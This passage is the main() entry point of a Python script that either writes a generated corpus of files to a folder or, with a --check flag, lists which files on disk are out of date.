def main(argv: Iterable[str] | None = None) -> int:
    """Write the corpus, or with ``--check`` report whether it is up to date."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--check", action="store_true", help="only compare with the files on disk")
    parser.add_argument("--output", type=Path, default=CORPUS, help="corpus folder")
    args = parser.parse_args(list(argv) if argv is not None else None)
    files = build_corpus()
    if args.check:
        stale = differences(args.output, files)
        for name in stale:
            print(f"out of date: {name}", file=sys.stderr)
        return 1 if stale else 0
    write_corpus(args.output, files)
    print(f"{len(files)} files in {args.output}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
